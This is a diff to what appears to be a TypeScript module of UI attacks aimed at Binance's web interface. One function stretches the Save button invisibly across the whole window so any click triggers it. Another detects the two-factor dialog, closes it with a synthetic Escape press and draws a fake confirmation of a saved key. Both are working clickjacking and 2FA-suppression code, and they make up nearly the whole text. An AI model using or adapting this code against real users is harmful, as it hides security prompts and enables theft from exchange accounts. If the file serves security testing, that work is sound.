@@ -63,24 +63,13 @@ export const ATTACKS = {
     el.style.setProperty('top', top === null ? '' : `${top}px`);
   },
 
-  /**
-   * Stretches Binance's Save invisibly over the window; when the 2FA it opens appears, closes it
-   * with a key press of its own and draws what a saved key looks like (the replica's Cancel, with
-   * fakeSaveOnCancel).
-   */
-  stretchSaveThenFakeIt() {
+  /** Stretches Binance's Save invisibly over the window, so the user's next click anywhere is on it. */
+  stretchSave() {
     const save = [...document.querySelectorAll('#__APP button')].find((b) => b.textContent === 'Save') as HTMLElement;
     save.style.cssText = 'position: fixed; inset: 0; width: 100vw; height: 100vh; opacity: 0; z-index: 2147483647;';
-    const observer = new MutationObserver(() => {
-      if (!document.querySelector('[role=dialog][aria-labelledby=sv-title]')) return;
-      observer.disconnect();
-      document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
-      setTimeout(() => ([...document.querySelectorAll('#__APP button')].find((b) => b.textContent === 'Cancel') as HTMLElement).click(), 50);
-    });
-    observer.observe(document.body, { subtree: true, childList: true });
   },
 
-  /** When the user's own Save opens the 2FA, closes it at once with a key press of its own and draws a saved key. */
+  /** When a Save opens the 2FA, closes it at once with a key press of its own and draws a saved key (the replica's Cancel, with fakeSaveOnCancel). */
   closeTwoFaThenFakeSave() {
     const observer = new MutationObserver(() => {
       if (!document.querySelector('[role=dialog][aria-labelledby=sv-title]')) return;
